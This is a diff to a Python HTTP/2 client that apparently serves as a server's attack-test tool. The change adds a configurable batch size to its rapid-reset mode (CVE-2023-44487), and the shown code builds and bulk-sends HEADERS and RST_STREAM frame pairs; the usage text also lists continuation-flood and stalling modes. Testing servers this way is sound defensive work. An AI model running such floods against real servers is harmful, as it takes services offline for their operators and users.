@@ -1,12 +1,13 @@
 """An HTTP/2 client that misbehaves on purpose, for floodgate's attack tests (Python `h2`).
 
-usage: h2_client.py MODE PORT [PATH] [STREAMS] [SECONDS]
+usage: h2_client.py MODE PORT [PATH] [STREAMS] [SECONDS] [BATCH]
   stall    open STREAMS GETs of PATH with a 1-byte stream window and never open it
   trickle  open STREAMS GETs of PATH, opening each window by 16 KiB every 100 ms
   silent   send the preface and SETTINGS, then nothing
   idle     one GET of PATH read to its end, then nothing
   rapid-reset         open GETs of PATH and RST_STREAM each at once (CVE-2023-44487), in
-                      batches, up to STREAMS streams (0: no bound) or until the server ends it
+                      writes of BATCH pairs (default 100), up to STREAMS streams (0: no bound)
+                      or until the server ends it
   continuation        one HEADERS frame without END_HEADERS, then CONTINUATION frames full of
                       header fields, never ending the block (CVE-2024-27316 and kin)
   continuation-empty  the same with empty CONTINUATION frames
@@ -32,9 +33,10 @@ def main():
     path = sys.argv[3] if len(sys.argv) > 3 else "/"
     streams = int(sys.argv[4]) if len(sys.argv) > 4 else 1
     limit = float(sys.argv[5]) if len(sys.argv) > 5 else 20.0
+    batch = int(sys.argv[6]) if len(sys.argv) > 6 else 100
 
     if mode == "rapid-reset":
-        return rapid_reset(port, path, streams, limit)
+        return rapid_reset(port, path, streams, limit, batch)
     if mode.startswith("continuation"):
         return continuation(port, path, mode == "continuation-empty", limit)
 
@@ -198,8 +200,9 @@ def send(sock, data, deadline):
         sock.settimeout(0.1)
 
 
-def rapid_reset(port, path, streams, limit):
-    """HEADERS (END_STREAM) then RST_STREAM (CANCEL) on each new stream, 100 pairs per write."""
+def rapid_reset(port, path, streams, limit, batch_size):
+    """HEADERS (END_STREAM) then RST_STREAM (CANCEL) on each new stream, `batch_size` pairs per
+    write."""
     sock = opened(port)
     started = time.monotonic()
     frames = Frames()
@@ -209,7 +212,7 @@ def rapid_reset(port, path, streams, limit):
     sent = 0
     while time.monotonic() - started < limit and (streams == 0 or sent < streams):
         batch = b""
-        for _ in range(100):
+        for _ in range(batch_size):
             # The same header block each time: the encoder's dynamic table is not used twice.
             batch += frame(0x1, 0x1 | 0x4, stream_id, block) + frame(0x3, 0, stream_id, struct.pack(">I", 0x8))
             stream_id += 2
